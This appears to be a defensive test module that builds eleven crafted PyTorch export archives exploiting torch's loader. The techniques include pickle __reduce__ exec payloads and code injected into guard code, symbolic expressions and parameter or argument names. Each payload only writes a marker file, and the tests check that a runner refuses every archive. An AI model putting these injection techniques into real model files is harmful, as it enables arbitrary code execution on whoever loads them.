"""Export archives crafted to run code when torch 2.13 loads them.

Each starts from a real exported program (the tiny-mlp example) and changes the one field that
torch's loader turns into code, so that loading (or calling the loaded module) creates a marker
file. `test_each_crafted_archive_runs_code_in_torch_itself` proves every one works against
torch unguarded; the other tests prove the runner and synth refuse them.
"""

import io
import json
import pickle
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import torch

from tests.conftest import REPO_ROOT

BASE = REPO_ROOT / "models" / "examples" / "tiny-mlp.pt2"
BASE_INPUT_SHAPE = (2, 64)


def payload(marker: Path) -> str:
    """Python that proves it ran by creating `marker`."""
    return f"open({str(marker)!r}, 'w').close()"


def payload_expression(marker: Path) -> str:
    """`payload` as an expression with no dots or quotes, to survive name mangling."""
    return f"exec(bytes({list(payload(marker).encode())}))"


class _RunsOnUnpickling:
    def __init__(self, source: str) -> None:
        self.source = source

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (exec, (self.source,))


def _pickled_payload(marker: Path) -> bytes:
    return pickle.dumps(_RunsOnUnpickling(payload(marker)), protocol=2)


class EditableArchive:
    """A zip's members by name below its root folder, editable, rebuilt into bytes."""

    def __init__(self, data: bytes) -> None:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            self.members = {info.filename: archive.read(info) for info in archive.infolist()}
        self.root = next(iter(self.members)).split("/", 1)[0] + "/"

    def __getitem__(self, name: str) -> bytes:
        return self.members[self.root + name]

    def __setitem__(self, name: str, data: bytes) -> None:
        self.members[self.root + name] = data

    def edit_json(self, name: str, edit: Callable[[dict[str, object]], object]) -> None:
        document = json.loads(self[name])
        edit(document)
        self[name] = json.dumps(document).encode()

    def bytes(self) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for name, data in self.members.items():
                archive.writestr(name, data)
        return out.getvalue()


WEIGHTS = "data/weights/model_weights_config.json"
CONSTANTS = "data/constants/model_constants_config.json"
PROGRAM = "models/model.json"
SAMPLE_INPUTS = "data/sample_inputs/model.pt"


def _pickled_weight(archive: EditableArchive, marker: Path) -> None:
    config = json.loads(archive[WEIGHTS])
    entry = config["config"]["0.weight"]
    entry["use_pickle"] = True
    archive["data/weights/" + entry["path_name"]] = _pickled_payload(marker)
    archive[WEIGHTS] = json.dumps(config).encode()


def _constant(prefix: str) -> Callable[[EditableArchive, Path], None]:
    def add(archive: EditableArchive, marker: Path) -> None:
        config = json.loads(archive[CONSTANTS])
        name = f"{prefix}0"
        config["config"]["lookup"] = {
            "path_name": name,
            "is_param": False,
            "use_pickle": True,
            "tensor_meta": None,
        }
        archive["data/constants/" + name] = _pickled_payload(marker)
        archive[CONSTANTS] = json.dumps(config).encode()

    return add


def _pickled_sample_inputs(archive: EditableArchive, marker: Path) -> None:
    """A torch.save zip whose pickle weights_only refuses, so torch retries without it."""
    inner = EditableArchive(archive[SAMPLE_INPUTS])
    inner["data.pkl"] = _pickled_payload(marker)
    archive[SAMPLE_INPUTS] = inner.bytes()


def _quoting_sample_input_key(archive: EditableArchive, marker: Path) -> None:
    """A dict key torch copies, quoted, into the guard code it generates and execs."""
    key = f"+{payload_expression(marker)}+''+"
    buffer = io.BytesIO()
    torch.save((({key: torch.randn(*BASE_INPUT_SHAPE)},), {}), buffer)
    archive[SAMPLE_INPUTS] = buffer.getvalue()


def _guard(archive: EditableArchive, marker: Path) -> None:
    guard = payload(marker).replace("'", '"') + " is None"
    archive.edit_json(PROGRAM, lambda program: _append(program["guards_code"], guard))


def _quoting_guard(archive: EditableArchive, marker: Path) -> None:
    guard = f"1 == 1 or L[\"+{payload_expression(marker)}+''+\"].size()[0] == 2"
    archive.edit_json(PROGRAM, lambda program: _append(program["guards_code"], guard))


def _append(items: object, item: str) -> None:
    assert isinstance(items, list)
    items.append(item)


def _symbolic_expression(archive: EditableArchive, marker: Path) -> None:
    def edit(program: dict[str, object]) -> None:
        values = program["graph_module"]["graph"]["tensor_values"]  # type: ignore[index]
        size = next(v["sizes"][0] for v in values.values() if "as_expr" in v["sizes"][0])
        size["as_expr"]["expr_str"] = (
            f"exec({payload(marker)!r}) or Symbol('s31', positive=True, integer=True)"
        )

    archive.edit_json(PROGRAM, edit)


def _attribute_name(archive: EditableArchive, marker: Path) -> None:
    """A parameter name torch pastes into generated code as getattr(self, "<name>")."""
    name = f'0", {payload_expression(marker)}) or getattr(self, "0.weight'

    def edit(program: dict[str, object]) -> None:
        spec = program["graph_module"]["signature"]["input_specs"][0]  # type: ignore[index]
        spec["parameter"]["parameter_name"] = name

    archive.edit_json(PROGRAM, edit)
    config = json.loads(archive[WEIGHTS])
    config["config"][name] = config["config"].pop("0.weight")
    archive[WEIGHTS] = json.dumps(config).encode()


def _argument_name(archive: EditableArchive, marker: Path) -> None:
    """An argument name torch pastes into `def forward(self, <names>)`."""

    def edit(program: dict[str, object]) -> None:
        call = program["graph_module"]["module_call_graph"][0]  # type: ignore[index]
        call["signature"]["forward_arg_names"] = [f"input={payload_expression(marker)}"]

    archive.edit_json(PROGRAM, edit)


@dataclass(frozen=True)
class Attack:
    """One crafted archive: how to build it, whether unguarded torch really runs its payload
    (the argument-name attack only gets its text into generated code), and the refusal."""

    name: str
    craft: Callable[[EditableArchive, Path], None]
    refusal: str
    runs_in_torch: bool = True

    def build(self, marker: Path) -> bytes:
        archive = EditableArchive(BASE.read_bytes())
        self.craft(archive, marker)
        return archive.bytes()


ATTACKS = (
    Attack("pickled-weight", _pickled_weight, r"weight '0\.weight' is stored pickled"),
    Attack("pickled-constant", _constant("tensor_"), "constant 'lookup' is stored pickled"),
    Attack("custom-object", _constant("custom_obj_"), "TorchScript custom object", False),
    Attack("opaque-object", _constant("opaque_obj_"), "opaque Python object"),
    Attack("pickled-sample-inputs", _pickled_sample_inputs, r"refers to __builtin__\.exec"),
    Attack("sample-input-key", _quoting_sample_input_key, "holds the string"),
    Attack("guard", _guard, r"guards_code\[0\] is not a comparison"),
    Attack("quoting-guard", _quoting_guard, r"guards_code\[0\] is not a comparison"),
    Attack("symbolic-expression", _symbolic_expression, "is not a symbolic shape expression"),
    Attack("attribute-name", _attribute_name, "is not a dotted attribute name"),
    Attack("argument-name", _argument_name, "is not a Python name", False),
)
